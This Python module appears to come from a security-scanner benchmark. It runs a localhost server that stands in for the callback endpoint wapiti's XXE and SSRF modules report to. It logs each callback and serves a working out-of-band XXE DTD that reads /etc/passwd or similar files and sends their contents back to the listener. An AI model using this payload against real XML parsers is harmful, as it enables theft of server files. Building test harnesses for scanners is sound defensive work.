"""Does what is attacked ask where its attacker points it? The server that wapiti's modules xxe and ssrf point to.

    .venv/bin/python -m bench.called_back 8098     # then: wapiti --endpoint http://127.0.0.1:8098/ -m xxe,ssrf …

Whoever comes for an address of a payload was made to come: it is printed, kept, and told to wapiti when it asks at its
end, in the shape of its makers' own server. docs/guides/attack.md says how it was tried.
"""

import json
import re
import sys
from collections import defaultdict
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

# /ssrf/SESSION/REQUEST/PARAMETER/, /dtd/SESSION/REQUEST/PARAMETER/NAME.dtd, /xxe/SESSION/REQUEST/PARAMETER/NAME/CONTENT
CALL = re.compile(r"/(ssrf|dtd|xxe)/(\w+)/(\d+)/(\w+)/(?:(\w+)(?:\.dtd|/(.*)))?", re.DOTALL)
READS = {"linux": "/etc/passwd", "javalin": "/etc/passwd", "linux2": "/etc/networks"}
CALLS: defaultdict[tuple[str, str], dict[str, dict[str, list[dict[str, object]]]]] = defaultdict(dict)


class CalledBack(BaseHTTPRequestHandler):
    """One call, or wapiti's question about its calls."""

    def do_GET(self) -> None:
        asked = urlsplit(self.path)
        if asked.path in ("/get_ssrf.php", "/get_xxe.php"):
            what, session = asked.path[5:-4], parse_qs(asked.query).get("session_id", [""])[0]
            self._answer(json.dumps(CALLS[what, session]), "application/json")
        elif call := CALL.match(self.path):
            what, session, request, parameter, name, content = call.groups()
            self._keep("ssrf" if what == "ssrf" else "xxe", session, request, parameter, name, len(content or ""))
            self._answer(self._dtd(self.path.rpartition("/")[0], name) if what == "dtd" else "seen")
        else:
            self.send_error(404)

    do_POST = do_PUT = do_HEAD = do_GET

    def _keep(self, what: str, session: str, request: str, parameter: str, name: str, size: int) -> None:
        said = {
            "url": f"http://{self.headers['Host']}{self.path}", "date": datetime.now(UTC).isoformat(),  # noqa: TID251
            "ip": self.client_address[0], "method": self.command, "size": size, "payload": name,
        }  # fmt: skip
        CALLS[what, session].setdefault(request, {}).setdefault(parameter, []).append(said)
        print("called back:", what, self.command, self.path, flush=True)

    def _dtd(self, here: str, name: str) -> str:
        """Read a file, then come again with what is in it."""
        back = f"http://{self.headers['Host']}{here.replace('/dtd/', '/xxe/')}/{name}/"
        file = f'<!ENTITY % payload SYSTEM "file://{READS.get(name, "/etc/hostname")}">'
        kind = "" if name.startswith("java") else "&#37; "
        inner = f"<!ENTITY % intern \"<!ENTITY {kind}trick SYSTEM '{back}%payload;'>\">"
        return f"{file}\n{inner}\n" + ("%intern;" if not kind else "")

    def _answer(self, text: str, kind: str = "text/plain") -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *_: object) -> None:
        """Only calls are told."""


if __name__ == "__main__":
    ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), CalledBack).serve_forever()
